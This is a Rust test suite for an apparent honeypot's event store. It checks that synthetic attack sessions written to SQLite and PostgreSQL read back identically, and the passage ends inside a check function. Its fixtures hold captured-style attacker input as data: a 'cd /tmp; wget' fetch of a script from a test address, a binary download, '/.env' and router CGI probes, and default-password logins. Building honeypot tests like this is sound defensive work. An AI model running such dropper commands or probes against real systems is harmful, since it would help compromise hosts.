//! One suite for both backends: the same traffic written to SQLite and to PostgreSQL must read
//! back the same, byte for byte, through every [`Reader`] method; plus hand-computed values,
//! and PostgreSQL's own behaviour (restarts, crashes, missing schema, passwords).
#![allow(clippy::unwrap_used)]

use std::collections::BTreeSet;
use std::fmt::Write as _;
use std::net::IpAddr;
use std::time::{Duration, Instant};

use honeyport_event::{
    EndReason, Event, EventKind as K, Payload, SessionId, Timestamp, Transport, SCHEMA_VERSION,
};
use honeyport_store::{
    kind, open_loader, open_reader, open_spool, open_writer, EventFilter, EventId, FirewallRecord,
    Heartbeat, Ident, Loaded, Loader, Location, Parked, Reader, RunTotals, Scope, SessionFilter,
    StoreError, Window, Writer, WriterOptions, DAY_MICROS,
};
use honeyport_testkit::pg::{self, Postgres};

/// The handmade traffic's first day (2025-11-09).
const D0: i64 = 20_400;
const SEC: i64 = 1_000_000;
const HOUR: i64 = 3600 * SEC;

/// Every item kind.
const KINDS: &[&str] = &[
    kind::PROTOCOL,
    kind::CLIENT,
    kind::TAG,
    kind::SERVED,
    kind::HASSH,
    kind::JA4,
    kind::VERSION,
    kind::USER_AGENT,
    kind::CREDENTIAL,
    kind::CREDENTIAL_OK,
    kind::USERNAME,
    kind::PASSWORD,
    kind::COMMAND,
    kind::REQUEST,
    kind::DOWNLOAD,
];

fn ip(s: &str) -> IpAddr {
    s.parse().unwrap()
}

fn pl(b: &[u8]) -> Payload {
    Payload(b.to_vec())
}

/// A session's fixed fields; `ev` makes its events.
#[derive(Clone)]
struct Sess {
    id: u64,
    sensor: &'static str,
    udp: bool,
    src: IpAddr,
    sport: u16,
    dst: IpAddr,
    dport: u16,
}

impl Sess {
    fn new(id: u64, sensor: &'static str, src: &str, dst: &str, dport: u16) -> Sess {
        Sess {
            id,
            sensor,
            udp: false,
            src: ip(src),
            sport: 40_000 + (id % 20_000) as u16,
            dst: ip(dst),
            dport,
        }
    }

    fn ev(&self, ts: i64, kind: K) -> Event {
        Event {
            v: SCHEMA_VERSION,
            timestamp: Timestamp::from_unix_micros(ts).unwrap(),
            sensor: self.sensor.into(),
            session: SessionId::from_u64(self.id),
            transport: if self.udp {
                Transport::Udp
            } else {
                Transport::Tcp
            },
            src_ip: self.src,
            src_port: self.sport,
            dst_ip: self.dst,
            dst_port: self.dport,
            kind,
        }
    }

    fn hex(&self) -> String {
        format!("{:016x}", self.id)
    }
}

fn connect(listener: &str, persona: &str, tls: bool) -> K {
    K::Connect {
        listener: listener.into(),
        persona: persona.into(),
        tls,
    }
}

fn closed(duration: f64, bytes_in: u64, bytes_out: u64, reason: EndReason) -> K {
    K::Closed {
        duration,
        bytes_in,
        bytes_out,
        reason,
        limit: (reason == EndReason::Limit).then(|| "max_bytes_in".to_string()),
    }
}

fn login(user: &[u8], pass: &[u8], ok: bool) -> K {
    let (username, password, method) = (pl(user), pl(pass), "ssh-password".to_string());
    if ok {
        K::LoginSuccess {
            username,
            password,
            method,
        }
    } else {
        K::LoginFailed {
            username,
            password,
            method,
        }
    }
}

fn cmd(s: &[u8]) -> K {
    K::CommandInput {
        input: pl(s),
        recognised: true,
    }
}

fn rule(name: &str, action: &str) -> K {
    K::RuleMatch {
        rule: name.into(),
        action: action.into(),
        match_len: 3,
    }
}

fn client_name(name: &str, by: &str) -> K {
    K::ClientName {
        name: name.into(),
        by: by.into(),
    }
}

fn classified(protocol: &str, client_first: bool, after_banner: Option<&str>) -> K {
    K::Classified {
        protocol: protocol.into(),
        client_first,
        after_banner: after_banner.map(str::to_string),
    }
}

fn http(method: &[u8], target: &[u8], ua: Option<&[u8]>) -> K {
    let mut headers = vec![(pl(b"Host"), pl(b"192.0.2.10"))];
    if let Some(ua) = ua {
        headers.push((pl(b"User-Agent"), pl(ua)));
    }
    K::HttpRequest {
        method: pl(method),
        target: pl(target),
        version: "HTTP/1.1".into(),
        headers,
        body_len: 0,
        user_agent: ua.map(pl),
    }
}

fn syn(sig: &str) -> K {
    K::TcpSyn {
        ttl: 52,
        ittl: 64,
        window: 64240,
        mss: Some(1460),
        wscale: Some(7),
        options: "mss,sok,ts,nop,ws".into(),
        df: true,
        signature: sig.into(),
        mirai: false,
    }
}

fn kex(hassh: &str) -> K {
    K::ClientKex {
        hassh: hassh.into(),
        hassh_algorithms: "curve25519-sha256;aes128-ctr;hmac-sha2-256;none".into(),
        kex_algs: vec!["curve25519-sha256".into()],
        key_algs: vec!["ssh-ed25519".into()],
        enc_cs: vec!["aes128-ctr".into()],
        mac_cs: vec!["hmac-sha2-256".into()],
        comp_cs: vec!["none".into()],
        lang_cs: vec![],
    }
}

fn hello(ja3: &str, ja4: &str) -> K {
    K::TlsClientHello {
        ja3: ja3.into(),
        ja3_string: "771,4865-4866,0-10-11,29-23,0".into(),
        ja4: ja4.into(),
        ja4_r: "t13d0202h2_1301,1302_000a,000b".into(),
        sni: Some("www.example.test".into()),
        alpn: vec![pl(b"h2"), pl(b"http/1.1")],
    }
}

fn fw(ts: i64, udp: bool, src: &str, dst: &str, spt: u16, dpt: u16) -> FirewallRecord {
    FirewallRecord {
        ts_micros: ts,
        udp,
        src: ip(src),
        dst: ip(dst),
        spt,
        dpt,
    }
}

/// What to write, in order.
enum Step {
    Events(Vec<Event>),
    /// sensor, records, how many of them are new.
    Firewall(&'static str, Vec<FirewallRecord>, u64),
}

/// The handmade sessions, by name, for the hand-computed checks.
struct Hand {
    ssh: Sess,
    shared: Sess,
    web6: Sess,
    mapped: Sess,
    dns: Sess,
    tls: Sess,
    tie_a: Sess,
    tie_b: Sess,
    tags: Sess,
    names: Sess,
    old: Sess,
    orphan: Sess,
}

fn hand() -> Hand {
    let base = 0x6910_0000_0000_0000u64;
    let mut dns = Sess::new(base + 5, "gamma", "203.0.113.9", "192.0.2.30", 53);
    dns.udp = true;
    let mut tie_b = Sess::new(
        0xf910_0000_0000_0008,
        "alpha",
        "198.51.100.8",
        "192.0.2.10",
        2323,
    );
    tie_b.sport = 40_008;
    Hand {
        ssh: Sess::new(base + 1, "alpha", "198.51.100.7", "192.0.2.10", 22),
        // Another sensor, the same source address.
        shared: Sess::new(base + 2, "beta", "198.51.100.7", "192.0.2.20", 22),
        web6: Sess::new(base + 3, "beta", "2001:db8::5", "2001:db8::1", 80),
        // IPv4-mapped: the same source as `dns` in the rollups, another string in sessions.
        mapped: Sess::new(base + 4, "alpha", "::ffff:203.0.113.9", "192.0.2.10", 23),
        dns,
        tls: Sess::new(base + 6, "alpha", "198.51.100.200", "192.0.2.10", 443),
        // Two sessions starting at the same microsecond; `tie_b`'s id is negative as an i64.
        tie_a: Sess::new(base + 7, "alpha", "198.51.100.8", "192.0.2.10", 2323),
        tie_b,
        tags: Sess::new(base + 9, "gamma", "192.0.2.99", "192.0.2.30", 8080),
        names: Sess::new(base + 10, "beta", "2001:db8::77", "2001:db8::1", 22),
        // Before 1970: a negative day.
        old: Sess::new(base + 11, "gamma", "198.51.100.1", "192.0.2.30", 8080),
        // Events of a session whose connect was never written.
        orphan: Sess::new(base + 12, "alpha", "198.51.100.66", "192.0.2.10", 22),
    }
}

/// A small deterministic generator (64-bit LCG).
struct Lcg(u64);

impl Lcg {
    fn next(&mut self) -> u64 {
        self.0 = self
            .0
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1_442_695_040_888_963_407);
        self.0 >> 33
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }
    fn pick<T: Copy>(&mut self, xs: &[T]) -> T {
        xs[self.below(xs.len() as u64) as usize]
    }
}

/// `n` generated sessions over days `day..day + 3`, their events in time order.
fn generated(n: u64, seed: u64, id_base: u64, day: i64) -> Vec<Event> {
    const SENSORS: &[&str] = &["alpha", "beta", "gamma", "delta"];
    const PORTS: &[u16] = &[21, 25, 445, 3389, 5555, 6379];
    const USERS: &[&[u8]] = &[b"root", b"admin", b"Admin", b"user", b"\xffbin", b""];
    const PASSWORDS: &[&[u8]] = &[b"123456", b"admin", b"root", b"pass\x00word", b"", b"\xfe"];
    const COMMANDS: &[&[u8]] = &[
        b"uname -a",
        b"cat /proc/cpuinfo",
        b"cd /tmp; wget http://203.0.113.50/x.sh",
        b"enable",
        b"\x1b[A",
    ];
    const UAS: &[&[u8]] = &[
        b"curl/8.5.0",
        b"Mozilla/5.0",
        b"zgrab/0.x",
        b"python-requests/2.31",
    ];
    const PROTOCOLS: &[&str] = &["ssh", "telnet", "http", "silent", "smtp"];
    const NAMES: &[&str] = &["Mirai", "paramiko", "Go-http-client", "libssh", "Nmap"];
    const TAGS: &[&str] = &["mirai", "gafgyt", "scanner", "cred-stuffing"];
    let mut rng = Lcg(seed);
    let mut out: Vec<(i64, u64, usize, Event)> = Vec::new();
    for i in 0..n {
        let src = match rng.below(10) {
            0 => format!("2001:db8:1::{:x}", rng.below(6)),
            1 => format!("::ffff:198.18.0.{}", rng.below(30)),
            _ => format!("198.18.0.{}", rng.below(30)),
        };
        let dport = rng.pick(PORTS);
        let mut s = Sess::new(
            id_base + i,
            rng.pick(SENSORS),
            &src,
            &format!("192.0.2.{}", 1 + rng.below(4)),
            dport,
        );
        s.udp = dport == 5555;
        let start = day * DAY_MICROS + rng.below(3 * DAY_MICROS as u64) as i64;
        let mut t = start;
        let mut evs = vec![s.ev(t, connect("gen", "busybox", false))];
        let mut step = |k: K, rng: &mut Lcg, extra: i64| {
            t += extra + 1 + rng.below(5 * SEC as u64) as i64;
            evs.push(s.ev(t, k));
        };
        if rng.below(2) == 0 {
            step(
                syn("4:64:0:1460:64240,7:mss,sok,ts,nop,ws:df,id+:0"),
                &mut rng,
                0,
            );
        }
        if rng.below(3) == 0 {
            let k = classified(
                rng.pick(PROTOCOLS),
                rng.below(2) == 0,
                [None, Some("same"), Some("silent")][rng.below(3) as usize],
            );
            step(k, &mut rng, 0);
        }
        for _ in 0..rng.below(4) {
            let k = login(rng.pick(USERS), rng.pick(PASSWORDS), rng.below(5) == 0);
            step(k, &mut rng, 0);
        }
        for _ in 0..rng.below(3) {
            step(cmd(rng.pick(COMMANDS)), &mut rng, 0);
        }
        if rng.below(4) == 0 {
            let ua = rng.pick(UAS);
            step(http(b"GET", b"/", Some(ua)), &mut rng, 0);
        }
        if rng.below(4) == 0 {
            step(client_name(rng.pick(NAMES), "input"), &mut rng, 0);
        }
        if rng.below(4) == 0 {
            step(rule(rng.pick(TAGS), "tag"), &mut rng, 0);
        }
        if rng.below(6) == 0 {
            step(
                K::ClientVersion {
                    version: pl(b"SSH-2.0-Go"),
                },
                &mut rng,
                0,
            );
            step(kex(&format!("{:032x}", rng.below(3))), &mut rng, 0);
        }
        if rng.below(10) != 0 {
            // Some stay open; some close hours later, on the next day.
            let late = if rng.below(8) == 0 { 20 * HOUR } else { 0 };
            let k = closed(
                late as f64 / 1e6 + 1.0 / 3.0 + rng.below(100) as f64,
                rng.below(3) * 17,
                rng.below(500),
                rng.pick(&[
                    EndReason::PeerClosed,
                    EndReason::IdleTimeout,
                    EndReason::Limit,
                ]),
            );
            step(k, &mut rng, late);
        }
        for (j, e) in evs.into_iter().enumerate() {
            out.push((e.timestamp.unix_micros(), id_base + i, j, e));
        }
    }
    out.sort_by_key(|(t, id, j, _)| (*t, *id, *j));
    out.into_iter().map(|x| x.3).collect()
}

/// Splits events into batches of varying sizes.
fn batches(evs: Vec<Event>) -> Vec<Vec<Event>> {
    let sizes = [1usize, 37, 250, 13, 400, 2, 120];
    let mut out = Vec::new();
    let mut it = evs.into_iter().peekable();
    let mut k = 0;
    while it.peek().is_some() {
        out.push(it.by_ref().take(sizes[k % sizes.len()]).collect());
        k += 1;
    }
    out
}

/// The whole traffic: handmade batches (sessions spanning batches and days), firewall records
/// between them, then the generated sessions.
fn traffic(generated_sessions: u64) -> Vec<Step> {
    let h = hand();
    let t0 = D0 * DAY_MICROS + 10 * HOUR;
    let long_cmd = vec![b'A'; 300];
    let long_tags: Vec<String> = (0..12)
        .map(|i| format!("{i:02}{}", "x".repeat(98)))
        .collect();
    let mut steps = Vec::new();

    // Batch 1.
    let mut b = vec![
        h.ssh.ev(t0, connect("ssh", "openssh", false)),
        h.ssh.ev(
            t0 + 1,
            syn("4:64:0:1460:64240,7:mss,sok,ts,nop,ws:df,id+:0"),
        ),
        h.ssh.ev(
            t0 + 2,
            K::ClientVersion {
                version: pl(b"SSH-2.0-libssh_0.9.6"),
            },
        ),
        h.ssh.ev(t0 + 3, kex("0123456789abcdef0123456789abcdef")),
        h.ssh.ev(t0 + 4, client_name("libssh", "ssh.version")),
        h.ssh.ev(t0 + 5, classified("ssh", true, None)),
        h.ssh.ev(t0 + 6, login(b"root", b"123456", false)),
        h.ssh.ev(t0 + 7, login(b"root", b"admin", false)),
        h.ssh.ev(t0 + 8, login(b"root", b"root", true)),
        h.shared.ev(t0 + 10, connect("ssh", "openssh", false)),
        h.shared.ev(t0 + 11, login(b"root", b"123456", false)),
        h.shared
            .ev(t0 + 12, closed(0.5, 40, 20, EndReason::PeerClosed)),
        h.web6.ev(t0 + 20, connect("web", "nginx", false)),
        h.web6.ev(t0 + 21, http(b"GET", b"/", Some(b"curl/8.0"))),
        h.web6.ev(
            t0 + 22,
            http(
                b"POST",
                b"/cgi-bin/luci;stok=/locale",
                Some(b"Mozilla/5.0 zgrab"),
            ),
        ),
        h.web6.ev(t0 + 23, http(b"GET", b"/\xff\x00bin", None)),
        h.web6.ev(t0 + 24, client_name("zgrab", "http.user_agent")),
        h.web6.ev(t0 + 25, classified("http", true, None)),
        h.web6.ev(t0 + 26, rule("cgi-probe", "tag")),
        h.web6
            .ev(t0 + 27, closed(1.25, 300, 1200, EndReason::Persona)),
    ];
    // The mapped session starts at the very end of day D0 and ends on D0 + 1.
    let late = (D0 + 1) * DAY_MICROS - 10 * SEC;
    b.push(h.mapped.ev(late, connect("telnet", "busybox", false)));
    // Events of a session that was never connected: stored, read back by no one.
    b.push(h.orphan.ev(t0 + 30, login(b"ghost", b"ghost", false)));
    steps.push(Step::Events(b));

    steps.push(Step::Firewall(
        "fw",
        vec![
            fw(
                (D0 + 2) * DAY_MICROS + HOUR,
                false,
                "198.51.100.7",
                "192.0.2.10",
                1,
                22,
            ),
            fw(
                (D0 + 2) * DAY_MICROS + HOUR,
                false,
                "198.51.100.7",
                "192.0.2.10",
                1,
                22,
            ),
            fw(
                (D0 + 2) * DAY_MICROS + HOUR,
                true,
                "198.51.100.7",
                "192.0.2.10",
                1,
                53,
            ),
        ],
        2,
    ));

    // Batch 2.
    let b = vec![
        h.ssh.ev(t0 + 100, cmd(b"uname -a")),
        h.ssh.ev(t0 + 101, cmd(&long_cmd)),
        h.ssh.ev(
            t0 + 102,
            K::FileDownload {
                url: pl(b"http://203.0.113.50/bins/x86"),
                command: "wget".into(),
                outfile: Some(pl(b"x86")),
            },
        ),
        h.ssh.ev(t0 + 103, rule("mirai", "tag")),
        h.ssh.ev(t0 + 104, rule("busybox-echo", "reply")),
        h.ssh.ev(t0 + 105, rule("mirai", "tag")),
        h.ssh
            .ev(t0 + 106, closed(106.0, 77, 999, EndReason::IdleTimeout)),
        h.mapped.ev(late + 1, login(b"admin", b"admin", false)),
        h.mapped.ev(late + 2, cmd(b"enable")),
        h.mapped
            .ev(late + 3, classified("telnet", false, Some("same"))),
        h.mapped.ev(late + 4, rule("t1", "tag")),
        h.dns.ev(t0 + 200, connect("dns", "dns", false)),
        h.dns.ev(
            t0 + 201,
            K::Input {
                data: pl(b"\x12\x34\x01\x00"),
                len: 4,
            },
        ),
        h.dns.ev(
            t0 + 202,
            K::Output {
                data: pl(b"\x12\x34\x81\x80"),
                len: 4,
                truncated: false,
            },
        ),
        h.dns.ev(t0 + 203, closed(0.001, 4, 4, EndReason::Persona)),
        h.names.ev(t0 + 300, connect("ssh", "openssh", false)),
        h.names
            .ev(t0 + 301, client_name("Ünïcode-Scanner", "input")),
        h.names.ev(t0 + 302, classified("ssh", true, None)),
    ];
    steps.push(Step::Events(b));

    // Batch 3: the next day.
    let t1 = (D0 + 1) * DAY_MICROS + 2 * HOUR;
    let mut b = vec![
        h.mapped.ev(late + 5 * SEC, rule("t2", "tag")),
        h.mapped.ev(late + 6 * SEC, rule("t1", "tag")),
        h.tls.ev(t1, connect("https", "web", true)),
        h.tls.ev(
            t1 + 1,
            hello(
                "ab".repeat(16).as_str(),
                "t13d0202h2_aaaaaaaaaaaa_bbbbbbbbbbbb",
            ),
        ),
        h.tls.ev(
            t1 + 2,
            K::TlsHandshake {
                version: "TLSv1_3".into(),
                cipher: "TLS13_AES_128_GCM_SHA256".into(),
                sni: Some("www.example.test".into()),
                alpn: Some(pl(b"h2")),
            },
        ),
        h.tls.ev(
            t1 + 3,
            K::Dispatch {
                persona: "nginx".into(),
                reason: "detected".into(),
                protocol: Some("http".into()),
                tls: true,
            },
        ),
        h.tls.ev(t1 + 4, http(b"GET", b"/.env", Some(b"curl/8.0"))),
        h.tls
            .ev(t1 + 5, closed(5.0, 120, 3000, EndReason::PeerClosed)),
        h.tie_a.ev(t1 + 10, connect("telnet-alt", "busybox", false)),
        h.tie_b.ev(t1 + 10, connect("telnet-alt", "busybox", false)),
        h.tie_a
            .ev(t1 + 11, closed(1.0, 10, 10, EndReason::PeerClosed)),
        h.tie_b.ev(t1 + 11, closed(1.0, 0, 10, EndReason::Limit)),
        h.names.ev(t0 + 400, client_name("PuTTY", "ssh.version")),
        h.names
            .ev(t0 + 401, classified("ssh2", false, Some("silent"))),
        h.names.ev(
            t0 + 402,
            K::ClientVersion {
                version: pl(b"SSH-2.0-PuTTY_Release_0.80"),
            },
        ),
        h.tags.ev(t1 + 20, connect("alt-http", "web", false)),
    ];
    for (i, t) in long_tags.iter().enumerate() {
        b.push(h.tags.ev(t1 + 21 + i as i64, rule(t, "tag")));
    }
    // Before 1970.
    b.push(h.old.ev(-2 * HOUR, connect("alt-http", "web", false)));
    b.push(
        h.old
            .ev(-2 * HOUR + 5, http(b"GET", b"/old", Some(b"Lynx/2.8"))),
    );
    b.push(h.old.ev(-HOUR, closed(3600.0, 9, 9, EndReason::Shutdown)));
    steps.push(Step::Events(b));

    steps.push(Step::Firewall(
        "fw",
        vec![
            // One already stored, one new, one new repeated, and an IPv4-mapped repeat.
            fw(
                (D0 + 2) * DAY_MICROS + HOUR,
                true,
                "198.51.100.7",
                "192.0.2.10",
                1,
                53,
            ),
            fw(
                (D0 + 2) * DAY_MICROS + 2 * HOUR,
                false,
                "2001:db8::9",
                "2001:db8::1",
                2,
                22,
            ),
            fw(
                (D0 + 2) * DAY_MICROS + 3 * HOUR,
                false,
                "198.51.100.8",
                "192.0.2.10",
                3,
                22,
            ),
            fw(
                (D0 + 2) * DAY_MICROS + 3 * HOUR,
                false,
                "::ffff:198.51.100.8",
                "192.0.2.10",
                3,
                22,
            ),
        ],
        2,
    ));
    steps.push(Step::Firewall(
        "alpha",
        vec![fw(
            (D0 + 1) * DAY_MICROS + 5 * HOUR,
            false,
            "198.51.100.7",
            "192.0.2.10",
            4,
            443,
        )],
        1,
    ));

    // Batch 4: closes and re-writes.
    let b = vec![
        h.mapped
            .ev(late + 20 * SEC, closed(30.0, 50, 60, EndReason::PeerClosed)),
        // `shared` written again (a re-import): no new record; its events are stored again.
        h.shared.ev(t0 + 10, connect("ssh", "openssh", false)),
        h.shared.ev(t0 + 11, login(b"root", b"123456", false)),
        h.tags.ev(t1 + 40, rule("late-tag", "tag")),
        h.tags
            .ev(t1 + 41, closed(21.0, 0, 0, EndReason::IdleTimeout)),
        h.names
            .ev(t0 + 500, closed(200.0, 1, 2, EndReason::PeerClosed)),
        h.orphan
            .ev(t0 + 501, closed(1.0, 1, 1, EndReason::PeerClosed)),
    ];
    steps.push(Step::Events(b));

    let gen = generated(generated_sessions, 7, 0x7000_0000_0000_0000, D0 + 4);
    steps.extend(batches(gen).into_iter().map(Step::Events));
    steps
}

/// Writes the traffic; checks `write_firewall`'s counts, `ident`, and the run rows.
fn write_all(w: &mut dyn Writer, steps: &[Step]) -> Duration {
    let started = Instant::now();
    w.begin_run("alpha").unwrap();
    for s in steps {
        match s {
            Step::Events(b) => w.write(b).unwrap(),
            Step::Firewall(sensor, recs, new) => {
                assert_eq!(w.write_firewall(sensor, recs).unwrap(), *new, "{recs:?}")
            }
        }
    }
    w.end_run(RunTotals {
        sent: 10,
        written: 9,
        dropped: 1,
        stalls: 0,
    })
    .unwrap();
    let took = started.elapsed();
    let h = hand();
    assert_eq!(
        w.ident(h.ssh.id).unwrap(),
        Some(Ident {
            sensor: "alpha".into(),
            start: D0 * DAY_MICROS + 10 * HOUR,
            src: "198.51.100.7".into(),
            src_port: h.ssh.sport,
        })
    );
    assert_eq!(w.ident(h.orphan.id).unwrap(), None);
    assert_eq!(w.ident(1).unwrap(), None);
    took
}

fn filters() -> Vec<(&'static str, SessionFilter)> {
    let f = SessionFilter::default;
    vec![
        ("all", f()),
        (
            "port 22",
            SessionFilter {
                port: Some(22),
                ..f()
            },
        ),
        (
            "port 9",
            SessionFilter {
                port: Some(9),
                ..f()
            },
        ),
        (
            "src v4",
            SessionFilter {
                src: Some(ip("198.51.100.7")),
                ..f()
            },
        ),
        (
            "src v6",
            SessionFilter {
                src: Some(ip("2001:db8::5")),
                ..f()
            },
        ),
        (
            "src mapped",
            SessionFilter {
                src: Some(ip("::ffff:203.0.113.9")),
                ..f()
            },
        ),
        (
            "src gen",
            SessionFilter {
                src: Some(ip("198.18.0.3")),
                ..f()
            },
        ),
        (
            "protocol ssh",
            SessionFilter {
                protocol: Some("ssh".into()),
                ..f()
            },
        ),
        (
            "protocol telnet",
            SessionFilter {
                protocol: Some("telnet".into()),
                ..f()
            },
        ),
        (
            "tag t2",
            SessionFilter {
                tag: Some("t2".into()),
                ..f()
            },
        ),
        (
            "tag mirai",
            SessionFilter {
                tag: Some("mirai".into()),
                ..f()
            },
        ),
        (
            "tag part",
            SessionFilter {
                tag: Some("mira".into()),
                ..f()
            },
        ),
        (
            "client LIBSSH",
            SessionFilter {
                client: Some("LIBSSH".into()),
                ..f()
            },
        ),
        (
            "client scanner",
            SessionFilter {
                client: Some("SCANNER".into()),
                ..f()
            },
        ),
        (
            "client ü",
            SessionFilter {
                client: Some("ünï".into()),
                ..f()
            },
        ),
        (
            "client Ü",
            SessionFilter {
                client: Some("Ünï".into()),
                ..f()
            },
        ),
        (
            "client empty",
            SessionFilter {
                client: Some(String::new()),
                ..f()
            },
        ),
        (
            "logins",
            SessionFilter {
                logins: true,
                ..f()
            },
        ),
        (
            "sent",
            SessionFilter {
                sent_bytes: true,
                ..f()
            },
        ),
        (
            "everything",
            SessionFilter {
                port: Some(22),
                src: Some(ip("198.51.100.7")),
                protocol: Some("ssh".into()),
                tag: Some("mirai".into()),
                client: Some("ssh".into()),
                logins: true,
                sent_bytes: true,
            },
        ),
    ]
}

/// Items as text (bytes that are not UTF-8 escaped), with their counts.
fn shown(items: &[(Vec<u8>, i64)]) -> Vec<(String, i64)> {
    items
        .iter()
        .map(|(i, n)| (Payload(i.clone()).escaped(), *n))
        .collect()
}

/// Every reader method, over many arguments, as one string.
fn render(r: &dyn Reader) -> String {
    render_as(r, true)
}

/// [`render`]; `ordered: false` for stores whose events were stored in another order (loaded
/// shuffled across sessions): the event lists are sorted and those cut by a limit left out
/// (which events a limit keeps depends on the order).
fn render_as(r: &dyn Reader, ordered: bool) -> String {
    let mut o = String::new();
    macro_rules! line {
        ($($a:tt)*) => { writeln!(o, $($a)*).unwrap() };
    }
    let scopes = [
        Scope::Fleet,
        Scope::Sensor("alpha"),
        Scope::Sensor("beta"),
        Scope::Sensor("gamma"),
        Scope::Sensor("delta"),
        Scope::Sensor("fw"),
        Scope::Sensor("nobody"),
    ];
    let w = |since, until| Window { since, until };
    let windows = [
        Window::day(D0),
        Window::day(D0 + 1),
        Window::day(D0 + 2),
        w(D0, D0 + 2),
        w(D0 + 4, D0 + 7),
        w(D0 - 30, D0 + 30),
        Window::day(-1),
        w(-5, D0 + 30),
    ];
    let item_windows = [Window::day(D0 + 1), w(D0, D0 + 2), w(-5, D0 + 30)];
    let wide = w(-5, D0 + 30);
    let ports: Vec<u16> = r
        .ports_in_window(Scope::Fleet, wide)
        .unwrap()
        .iter()
        .map(|p| p.port)
        .chain([1, 65535])
        .collect();
    line!("ports {ports:?}");
    for &sc in &scopes {
        line!("day_range {sc:?}: {:?}", r.day_range(sc).unwrap());
        for d in (D0 - 1..=D0 + 8).chain([-1, 0]) {
            line!(
                "ports_on_day {sc:?} {d}: {:?}",
                r.ports_on_day(sc, d).unwrap()
            );
        }
        for &win in &windows {
            line!(
                "ports_in_window {sc:?} {win:?}: {:?}",
                r.ports_in_window(sc, win).unwrap()
            );
            for &p in &ports {
                line!(
                    "port_in_window {sc:?} {p} {win:?}: {:?}",
                    r.port_in_window(sc, p, win).unwrap()
                );
            }
        }
        for &p in &ports {
            line!(
                "port_days {sc:?} {p}: {:?}",
                r.port_days(sc, p, D0 - 1, D0 + 9).unwrap()
            );
            line!(
                "port_days {sc:?} {p} old: {:?}",
                r.port_days(sc, p, -3, 0).unwrap()
            );
            line!("port_seen {sc:?} {p}: {:?}", r.port_seen(sc, p).unwrap());
        }
        for &win in &item_windows {
            for port in [None, Some(22), Some(445)] {
                for k in KINDS {
                    let all = r.items(sc, win, port, k, usize::MAX).unwrap();
                    line!("items {sc:?} {win:?} {port:?} {k}: {:?}", shown(&all));
                    if port.is_none() {
                        line!(
                            "items3 {sc:?} {win:?} {k}: {:?}",
                            shown(&r.items(sc, win, port, k, 3).unwrap())
                        );
                    }
                    line!(
                        "item_total {sc:?} {win:?} {port:?} {k}: {}",
                        r.item_total(sc, win, port, k).unwrap()
                    );
                    let mut ask: Vec<Vec<u8>> = all.iter().rev().map(|x| x.0.clone()).collect();
                    ask.push(b"never seen".to_vec());
                    if let Some(first) = all.first() {
                        ask.push(first.0.clone());
                    }
                    line!(
                        "item_counts {sc:?} {win:?} {port:?} {k}: {:?}",
                        r.item_counts(sc, win, port, k, &ask).unwrap()
                    );
                }
                line!(
                    "sources {sc:?} {win:?} {port:?}: {:?}",
                    r.sources(sc, win, port, 1000).unwrap()
                );
                line!(
                    "sources2 {sc:?} {win:?} {port:?}: {:?}",
                    r.sources(sc, win, port, 2).unwrap()
                );
            }
        }
        for &win in &[Window::day(D0), w(D0, D0 + 1), wide] {
            for (name, f) in filters() {
                for s in r.sessions(sc, win, &f, 1000).unwrap() {
                    line!("sessions {sc:?} {win:?} {name}: {s:?}");
                }
            }
            line!(
                "sessions3 {sc:?} {win:?}: {:?}",
                r.sessions(sc, win, &SessionFilter::default(), 3).unwrap()
            );
        }
    }
    let mut ids = BTreeSet::new();
    for s in r
        .sessions(Scope::Fleet, wide, &SessionFilter::default(), usize::MAX)
        .unwrap()
    {
        ids.insert(s.session);
    }
    line!("{} sessions", ids.len());
    for id in
        ids.iter()
            .map(String::as_str)
            .chain(["ffffffffffffffff", "xyz", "", "6910000000000001"])
    {
        line!("summary {id}: {:?}", r.summary(id).unwrap());
    }
    let e = EventFilter::default;
    let h = hand();
    let event_filters = [
        ("all", e()),
        (
            "limit 5",
            EventFilter {
                limit: Some(5),
                ..e()
            },
        ),
        (
            "oldest limit 5",
            EventFilter {
                limit: Some(5),
                oldest_first: true,
                ..e()
            },
        ),
        (
            "limit 0",
            EventFilter {
                limit: Some(0),
                ..e()
            },
        ),
        (
            "limit max",
            EventFilter {
                limit: Some(usize::MAX),
                port: Some(443),
                ..e()
            },
        ),
        (
            "port 22",
            EventFilter {
                port: Some(22),
                ..e()
            },
        ),
        (
            "src",
            EventFilter {
                src: Some(ip("198.51.100.7")),
                ..e()
            },
        ),
        (
            "src mapped",
            EventFilter {
                src: Some(ip("::ffff:203.0.113.9")),
                ..e()
            },
        ),
        (
            "session",
            EventFilter {
                session: Some(h.mapped.hex()),
                oldest_first: true,
                ..e()
            },
        ),
        (
            "short session",
            EventFilter {
                session: Some("1".into()),
                ..e()
            },
        ),
        (
            "bad session",
            EventFilter {
                session: Some("not hex".into()),
                ..e()
            },
        ),
        (
            "orphan",
            EventFilter {
                session: Some(h.orphan.hex()),
                ..e()
            },
        ),
        (
            "logins",
            EventFilter {
                eventids: vec!["login.failed", "login.success"],
                ..e()
            },
        ),
        (
            "combined",
            EventFilter {
                port: Some(22),
                src: Some(ip("198.51.100.7")),
                eventids: vec!["session.connect", "command.input", "session.closed"],
                oldest_first: true,
                limit: Some(4),
                ..e()
            },
        ),
    ];
    for (i, (name, f)) in event_filters.into_iter().enumerate() {
        if !ordered && f.limit.is_some() {
            continue;
        }
        let mut evs = r.events(&f).unwrap();
        if !ordered {
            evs.sort_by_cached_key(|e| e.to_json());
        }
        // Every event of the first list in full; of the others, the first few and a digest.
        let full = if i == 0 { evs.len() } else { 5 };
        let mut digest = Fnv::default();
        for ev in &evs {
            digest.add(ev.to_json().as_bytes());
        }
        line!("events {name}: {} {:016x}", evs.len(), digest.0);
        for ev in evs.iter().take(full) {
            line!("  {}", ev.to_json());
        }
    }
    line!(
        "sensors {}",
        serde_json::to_string(&r.sensors().unwrap()).unwrap()
    );
    line!("parked {}", r.parked().unwrap());
    o
}

/// FNV-1a, 64 bits.
struct Fnv(u64);

impl Default for Fnv {
    fn default() -> Fnv {
        Fnv(0xcbf2_9ce4_8422_2325)
    }
}

impl Fnv {
    fn add(&mut self, bytes: &[u8]) {
        for &b in bytes.iter().chain(b"\n") {
            self.0 = (self.0 ^ u64::from(b)).wrapping_mul(0x100_0000_01b3);
        }
    }
}

/// Values computed by hand from [`traffic`].
fn check(r: &dyn Reader) {
    let h = hand();
    let row = |sc, port, win: Window| {
        let c = r.port_in_window(sc, port, win).unwrap();
        (c.records, c.tcp, c.udp, c.sources, c.targets)
    };
